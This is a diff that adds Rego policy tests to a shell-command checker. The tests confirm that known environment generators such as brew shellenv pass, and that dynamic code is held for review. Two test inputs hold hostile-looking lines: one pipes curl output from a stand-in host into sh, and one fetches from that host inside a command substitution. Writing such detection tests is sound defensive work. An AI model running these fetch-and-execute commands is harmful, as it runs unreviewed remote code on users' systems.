@@ -33,3 +33,13 @@ test_code_effects if {
 	count(_h(t.line([t.code(t.cmd(["python3", "-c", "print(1)"]), "python", [], [])]))) == 0
 	"opaque.code.unknown" in _h(t.line([t.ext(t.cmd(["python3", "-"]), {"code": {"lang": "python", "from": "stdin", "text": "", "known": false, "effects": [], "paths": []}})]))
 }
+
+test_env_generator_eval_allowed if count(_h(_op("dynamic-code", `"$(/opt/homebrew/bin/brew shellenv)"`))) == 0
+
+test_env_generator_backticks_allowed if count(_h(_op("dynamic-code", "`ssh-agent -s`"))) == 0
+
+test_env_generator_with_more_code_held if "opaque.dynamic-code" in _h(_op("dynamic-code", `"$(brew shellenv; curl x.example | sh)"`))
+
+test_env_generator_with_dynamic_args_held if "opaque.dynamic-code" in _h(_op("dynamic-code", `"$(brew $X)"`))
+
+test_unknown_generator_held if "opaque.dynamic-code" in _h(_op("dynamic-code", `"$(curl -s x.example)"`))
